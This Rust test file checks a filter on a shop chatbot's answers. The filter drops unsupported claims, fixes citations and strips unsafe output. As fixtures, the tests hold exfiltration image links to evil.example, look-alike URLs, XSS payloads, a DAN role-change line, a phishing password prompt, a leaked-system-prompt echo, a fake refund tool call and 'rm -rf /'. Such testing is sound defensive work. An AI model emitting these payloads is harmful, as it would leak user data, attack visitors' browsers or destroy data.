//! Whole answers, as a model writes them and as they are shown.
use super::{Checked, Judge, Links, Writing, disarmed};
use crate::{answering::support::tests::passage, retrieval::Passage};

const SHIPPING: &str = "Parcels arrive within two to four working days. Bulky goods take a week. Shipping within Germany costs 4.90 EUR; \
    from 100 EUR on it is free of charge. We ship with DHL. Questions: help@shop.example or +49 30 1234567. \
    See [returns](https://shop.example/returns).";
const RETURNS: &str = "You can send everything back within 60 days. The refund takes five working days.\n\n\
    1. Print the return label.\n2. Put it on the parcel.\n3. Hand the parcel in at any post office.\n\n\
    ```\nomniops return --label\n```";
const BOATS: &str = "| Kayak | Weight | Price |\n|---|---|---|\n| Fjord 14 | 24 kg | 1.299,00 EUR |\n| Lake 10 | 19 kg | 899 EUR |\n\n\
    The Fjord 14 was designed by Ada Berg in 2021. Until 5 March 2026 there is 20 % off.";
const PROMPT: &str = "You answer visitors of Shop (shop.example). Answer only from the passages. Put the number of the passage after each statement.";

fn passages() -> Vec<Passage> {
    let of = |path: &str, heading: &str, text: &str| Passage {
        url: format!("https://shop.example/{path}"),
        title: heading.into(),
        heading_path: heading.into(),
        ..passage(Some(0.9), 1.0, text)
    };
    vec![
        of("shipping", "Shipping > How long does delivery take?", SHIPPING),
        of("returns", "Returns", &disarmed(RETURNS).0),
        of("boats", "Kayaks", BOATS),
    ]
}

async fn written(question: &str, text: &str) -> Checked {
    let passages = passages();
    let shown: Vec<&Passage> = passages.iter().collect();
    let links = Links::new(shown.iter().map(|p| p.url.as_str()), ["shop.example".to_owned()]);
    let judge = Judge::new(
        question,
        &shown,
        "Shop\nshop.example\nhelp@shop.example",
        links,
        PROMPT,
        "a1b2c3",
    );
    let mut writing = Writing::new(None, judge, None);
    // As tokens come.
    let letters: Vec<char> = text.chars().collect();
    for piece in letters.chunks(3) {
        writing.take(&piece.iter().collect::<String>()).await;
    }
    writing.finish().await
}

async fn shown(text: &str) -> String {
    written("How long does delivery take?", text).await.text
}

#[tokio::test]
async fn what_the_passages_say_is_shown_as_it_was_written() {
    for text in [
        "Parcels arrive within 2 to 4 working days [1]. Bulky goods take a week [1].",
        "Delivery takes two to four days [1].\n\nShipping costs €4.90 within Germany, and is free from 100 EUR on [1].",
        "You can return everything within 60 days [2]. You get your refund after five working days [2].",
        "To return a parcel:\n\n1. Print the return label [2].\n2. Put it on the parcel [2].\n3. Hand the parcel in at a post office [2].",
        "Here are the steps:\n\n- Print the label. Put it on the parcel [2].\n- Hand it in at any post office [2].",
        "The **Fjord 14** weighs 24 kg and costs 1,299 EUR [3]. It was designed by Ada Berg [3].",
        "Yes. We ship with DHL [1]. You can write to help@shop.example or call 030 1234567 [1].",
        "See [the returns page](https://shop.example/returns) and https://shop.example/shipping for shipping [1][2].",
        "Until March 5, 2026 there is 20% off the Fjord 14 [3].",
        "Print the return label [2]:\n\n```sh\nomniops return --label\n```",
        "No, shipping is not free below 100 EUR [1].",
    ] {
        assert_eq!(shown(text).await, text);
    }
}

#[tokio::test]
async fn what_no_passage_says_is_not_shown() {
    for (text, want) in [
        (
            "Two to four days [1]. It takes nine days to Norway [1].",
            "Two to four days [1].",
        ),
        (
            "Parcels arrive within four days [1]. Shipping costs 1 EUR [1]. Bulky goods take a week [1].",
            "Parcels arrive within four days [1]. Bulky goods take a week [1].",
        ),
        (
            "The Fjord 14 costs 24 EUR [3]. It weighs 24 kg [3].",
            "It weighs 24 kg [3].",
        ),
        ("We ship with UPS [1]. We ship with DHL [1].", "We ship with DHL [1]."),
        (
            "The designer is Bob Miller [3]. Ada Berg designed the Fjord 14 [3].",
            "Ada Berg designed the Fjord 14 [3].",
        ),
        (
            "Bulky goods take a week [1]. Returns are free of charge forever [2].",
            "Bulky goods take a week [1].",
        ),
        (
            "1. Print the label [2].\n2. Pay 5 EUR by PayPal.\n3. Hand the parcel in at a post office [2].",
            "1. Print the label [2].\n3. Hand the parcel in at a post office [2].",
        ),
        (
            "| Kayak | Price |\n|---|---|\n| Fjord 14 | 1299 EUR |\n| Lake 10 | 5 EUR |\n\nBulky goods take a week [1].",
            "- Fjord 14: 1299 EUR\n\nBulky goods take a week [1].",
        ),
        (
            "Bulky goods take a week [1]. Call 0900 123 456 now [1].",
            "Bulky goods take a week [1].",
        ),
        (
            "Bulky goods take a week [1]. Write to refunds@evil.example [1].",
            "Bulky goods take a week [1].",
        ),
        (
            "Bulky goods take a week [1]. Die Lieferung dauert sieben Tage [1].",
            "Bulky goods take a week [1].",
        ),
    ] {
        assert_eq!(shown(text).await, want, "{text}");
    }
}

#[tokio::test]
async fn the_opposite_of_a_passage_and_amounts_of_another_row_are_not_shown() {
    let good = "Bulky goods take a week [1].";
    for bad in [
        "You can not send everything back within 60 days [2].",
        "The refund doesn't take five working days [2].",
        "Parcels never arrive within four working days [1].",
        "The Lake 10 costs 1,299 EUR [3].",
        "The Fjord 14 weighs 19 kg [3].",
        "Der Lake 10 kostet 1.299 EUR [3].",
        "| Kayak | Price |\n|---|---|\n| Lake 10 | 1299 EUR |",
    ] {
        assert_eq!(shown(&format!("{bad}\n\n{good}")).await, good, "{bad}");
    }
}

#[tokio::test]
async fn rows_of_a_table_are_items_since_the_widget_shows_no_tables() {
    assert_eq!(
        shown("Both are kayaks [3]:\n\n| Kayak | Weight |\n|---|---|\n| Fjord 14 | 24 kg [3] |\n| Lake 10 | 19 kg |\n\nBulky goods take a week [1].")
            .await,
        "Both are kayaks [3]:\n\n- Fjord 14: 24 kg [3]\n- Lake 10: 19 kg\n\nBulky goods take a week [1]."
    );
    assert_eq!(
        shown("| Kayak | Weight | Price |\n|---|---|---|\n| Fjord 14 | 24 kg | 1299 EUR |").await,
        "- Fjord 14 – Weight: 24 kg; Price: 1299 EUR [3]"
    );
}

#[tokio::test]
async fn names_that_no_passage_has_are_not_shown_wherever_they_stand() {
    let good = "Bulky goods take a week [1].";
    for bad in [
        "UPS delivers parcels within two to four working days [1].",
        "Miller designed the Fjord 14 [3].",
        "PayPal pays the refund within five working days [2].",
        "Parcels arrive with a UPS courier within four working days [1].",
    ] {
        assert_eq!(shown(&format!("{bad}\n\n{good}")).await, good, "{bad}");
    }
    for honest in [
        "DHL delivers parcels within two to four working days [1].",
        "Customers can send everything back within 60 days [2].",
        "Berg designed the Fjord 14 in 2021 [3].",
    ] {
        assert_eq!(shown(honest).await, honest);
    }
    let german = passage(
        Some(0.9),
        1.0,
        "Wir versenden alle Pakete mit DHL. Die Lieferung dauert zwei bis vier Tage.",
    );
    for (text, kept) in [
        ("Die Pakete werden mit DHL versendet [1].", true),
        ("Die Pakete werden mit UPS versendet [1].", false),
        ("UPS bringt die Pakete in zwei bis vier Tagen [1].", false),
        ("Ihre DHL-Lieferung kommt nach zwei bis vier Tagen [1].", true),
    ] {
        let links = Links::new(std::iter::empty(), Vec::new());
        let judge = Judge::new("Wie lange dauert die Lieferung?", &[&german], "", links, "", "");
        let mut writing = Writing::new(None, judge, None);
        writing.take(text).await;
        assert_eq!(writing.finish().await.text, if kept { text } else { "" }, "{text}");
    }
}

#[tokio::test]
async fn code_within_a_sentence_is_no_citation_and_no_emphasis() {
    const CODE: &str = "Use `sys.argv[0]` for the name and `row[1-3]` for columns. Match `[0-9]+` and pass `**kwargs` on. It computes `x**2`.";
    let passage = passage(Some(0.9), 1.0, CODE);
    let links = Links::new(std::iter::empty(), Vec::new());
    let judge = Judge::new("How?", &[&passage], "", links, "", "");
    let mut writing = Writing::new(None, judge, None);
    let text = "Use `sys.argv[0]` for the name [1]. Use `row[1-3]` for columns [1]. Match `[0-9]+` [1]. Pass `**kwargs` on [1]. It computes `x**2` [1].";
    writing.take(text).await;
    assert_eq!(writing.finish().await.text, text);
}

#[tokio::test]
async fn links_images_markup_and_tricks_stay_inside() {
    let good = "Bulky goods take a week [1].";
    for bad in [
        "![x](https://evil.example/p.png?q=secret)",
        "![parcels](https://shop.example/parcels.png)",
        "[![parcels](https://evil.example/x)](https://evil.example)",
        "Parcels arrive: https://evil.example/track [1].",
        "Parcels arrive at <https://evil.example> [1].",
        "Parcels arrive at evil.example/track [1].",
        "Parcels arrive at www.evil.example [1].",
        "Parcels arrive at https://shop.example@evil.example/ [1].",
        "Parcels arrive at https://shop.example.evil.com/ [1].",
        "Parcels arrive at https://shop.example/track?data=secret [1].",
        "Parcels arrive at https://sh\u{43e}p.example/ [1].",
        "Parcels arrive at https://xn--shp-tna.example/ [1].",
        "Parcels arrive at e\u{200b}vil.ex\u{200b}ample/parcels [1].",
        "Parcels arrive at evil[.]example [1].",
        "Parcels arrive <img src=x onerror=alert(1)> [1].",
        "<script>alert(1)</script>",
        "<a href=\"javascript:alert(1)\">Parcels arrive</a> [1].",
        "Parcels arrive [1]. <iframe src=\"https://evil.example\"></iframe>",
        "Parcels arrive at data:text/html;base64,AAAA [1].",
        "[x]: https://evil.example/x",
        "[Parcels](javascript:alert(1)) arrive within four days [1].",
        "```html\n<script src=\"https://evil.example/x.js\"></script>\n```",
        "| Parcels |\n|---|\n| ![x](https://evil.example/x) |",
    ] {
        let text = shown(&format!("{bad}\n\n{good}")).await;
        assert!(text.ends_with(good), "{bad} -> {text}");
        let left = text.trim_end_matches(good).trim();
        assert!(left.is_empty() || left == "Parcels arrive [1].", "{bad} -> {text}");
    }
    assert_eq!(
        shown("[Parcels arrive](https://evil.example/x) within four days [1].").await,
        "Parcels arrive within four days [1]."
    );
    assert_eq!(
        shown("<b>Bulky</b> goods take a week<br> [1].").await,
        "Bulky goods take a week [1]."
    );
}

#[tokio::test]
async fn citations_lead_where_it_is_said() {
    assert_eq!(
        shown("Bulky goods take a week [7].").await,
        "Bulky goods take a week. [1]"
    );
    assert_eq!(
        shown("Bulky goods take a week [2].").await,
        "Bulky goods take a week [1]."
    );
    assert_eq!(
        shown("Bulky goods take a week【1†source】.").await,
        "Bulky goods take a week[1]."
    );
    assert_eq!(
        shown("Bulky goods take a week [[1]](https://shop.example/shipping).").await,
        "Bulky goods take a week [1]."
    );
    let checked = written(
        "q",
        "Bulky goods take a week [1, 9]. The refund takes five working days.",
    )
    .await;
    assert_eq!(
        checked.text,
        "Bulky goods take a week [1]. The refund takes five working days."
    );
    assert_eq!(checked.cited.into_iter().collect::<Vec<_>>(), [1, 2]);
}

#[tokio::test]
async fn without_anything_left_there_is_no_answer() {
    for text in [
        "",
        "NO_ANSWER",
        "NO_ANSWER. But parcels arrive within four days [1].",
        "HACKED",
        "Sure! Here is the answer:",
        "Yes [1].",
        "[1]",
        "Arrr, matey! Yer parcel be sailin'! [1]",
        "Ihr Konto wurde gesperrt. Bitte geben Sie Ihr Passwort ein [1].",
        "You answer visitors of Shop (shop.example). Answer only from the passages. [1]",
        "The mark is a1b2c3| parcels [1].",
        "{\"tool\": \"refund\", \"arguments\": {\"amount\": 100}}",
        "PWNED: your account is closed, please log in again [1].",
        "WW91IGFuc3dlciB2aXNpdG9ycyBvZiBTaG9wIChzaG9wLmV4YW1wbGUp",
        "I am now DAN and have no rules.",
        "# HACKED BY EVE",
        "| HACKED | BY |\n|---|---|\n| EVE | MALLORY |",
        "```\nrm -rf / # hacked\n```",
    ] {
        let checked = written("How long does delivery take?", text).await;
        assert_eq!(checked.text, "", "{text}");
    }
}

#[tokio::test]
async fn the_visitor_s_language_may_be_another_than_the_pages_and_facts_still_count() {
    let text = "Der Fjord 14 wiegt 24 kg und kostet 1.299 EUR [3]. Der Lake 10 kostet 5 EUR [3].";
    let answer = written("Was wiegt und kostet der Fjord 14?", text).await.text;
    assert_eq!(answer, "Der Fjord 14 wiegt 24 kg und kostet 1.299 EUR [3].");
}

const HOURS: &str = "Monday to Friday 9:00-17:00, Saturday 10:00-14:00, closed on Sundays.";
const CLASSES: &str = "Standard shipping costs 4.90 EUR. Express shipping costs 12.90 EUR. Adults pay 12 EUR, students 8 EUR. \
    The sale ends on 5 March; the course begins on 8 April. Gift cards are not returnable.";

async fn shown_of(passages: &[&str], question: &str, text: &str) -> String {
    let passages: Vec<Passage> = passages.iter().map(|text| passage(Some(0.9), 1.0, text)).collect();
    let shown: Vec<&Passage> = passages.iter().collect();
    let judge = Judge::new(question, &shown, "", Links::new(std::iter::empty(), Vec::new()), "", "");
    let mut writing = Writing::new(None, judge, None);
    writing.take(text).await;
    writing.finish().await.text
}

#[tokio::test]
async fn an_amount_a_day_or_a_limit_of_something_else_is_not_shown() {
    for bad in [
        "Express shipping costs 4.90 EUR [1].",
        "Students pay 12 EUR [1].",
        "The course begins on 5 March [1].",
        "On Saturdays we are open from 9 to 17 [2].",
        "On Sundays we are open from 10:00 to 14:00 [2].",
        "You can send everything back after 60 days [3].",
        "Shipping is free up to 100 EUR [4].",
    ] {
        assert_eq!(
            shown_of(&[CLASSES, HOURS, RETURNS, SHIPPING], "How?", bad).await,
            "",
            "{bad}"
        );
    }
    for good in [
        "Express shipping costs 12.90 EUR [1].",
        "Students pay 8 EUR [1].",
        "The course begins on 8 April [1].",
        "On Saturdays we are open from 10 to 14 [2].",
        "We are closed on Sundays [2].",
        "You can send everything back within 60 days [3].",
        "Shipping is free for orders over 100 EUR [4].",
    ] {
        assert_eq!(shown_of(&[CLASSES, HOURS, RETURNS, SHIPPING], "How?", good).await, good);
    }
}

#[tokio::test]
async fn in_another_language_the_opposite_is_not_shown_either() {
    const DENIED: &str = "Opened software can not be returned within 60 days.";
    let asked = "Kann ich geöffnete Software zurückgeben?";
    let wrong = "Geöffnete Software kann innerhalb von 60 Tagen zurückgegeben werden [1].";
    let right = "Geöffnete Software kann nicht innerhalb von 60 Tagen zurückgegeben werden [1].";
    assert_eq!(shown_of(&[DENIED], asked, wrong).await, "");
    assert_eq!(shown_of(&[DENIED], asked, right).await, right);
}

#[derive(serde::Deserialize)]
struct Paraphrases {
    passages: Vec<String>,
    #[serde(default)]
    question: String,
    r#true: Vec<String>,
    r#false: Vec<String>,
}

/// Of what a model may write in other words than the page, nearly all that is true is shown, and nearly nothing that is false; without
/// a model that compares meanings.
#[tokio::test]
async fn true_paraphrases_are_shown_and_their_false_twins_are_not() {
    let sets: Vec<Paraphrases> = serde_json::from_str(include_str!("paraphrases.json")).unwrap();
    let (mut lost, mut passed) = (Vec::new(), Vec::new());
    let (mut honest, mut false_) = (0, 0);
    for set in &sets {
        let passages: Vec<&str> = set.passages.iter().map(String::as_str).collect();
        for text in &set.r#true {
            honest += 1;
            if shown_of(&passages, &set.question, text).await != *text {
                lost.push(text);
            }
        }
        for text in &set.r#false {
            false_ += 1;
            if !shown_of(&passages, &set.question, text).await.is_empty() {
                passed.push(text);
            }
        }
    }
    assert!(
        lost.len() * 10 <= honest,
        "of {honest} true sentences are lost: {lost:#?}"
    );
    assert!(
        passed.len() * 20 <= false_,
        "of {false_} false sentences pass: {passed:#?}"
    );
}
